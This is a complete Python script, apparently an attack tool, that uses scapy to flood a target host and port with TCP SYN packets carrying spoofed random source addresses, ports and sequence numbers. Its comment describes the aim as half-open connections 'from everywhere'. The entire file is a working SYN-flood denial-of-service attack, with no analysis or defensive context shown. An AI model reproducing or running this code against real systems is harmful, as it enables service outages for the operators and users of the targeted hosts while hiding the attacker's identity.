#!/usr/bin/env python3
# Half-open connections from everywhere.
from ipaddress import IPv4Address
from random import getrandbits
from scapy.all import IP, TCP, send
import sys

target, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
ip = IP(dst=target)
tcp = TCP(dport=port, flags="S")
pkt = ip/tcp

for _ in range(count):
    pkt[IP].src = str(IPv4Address((100 << 24) | getrandbits(24)))
    pkt[TCP].sport = 1024 + getrandbits(15)
    pkt[TCP].seq = getrandbits(32)
    send(pkt, verbose=0)
print("sent %d SYN to %s:%d" % (count, target, port))
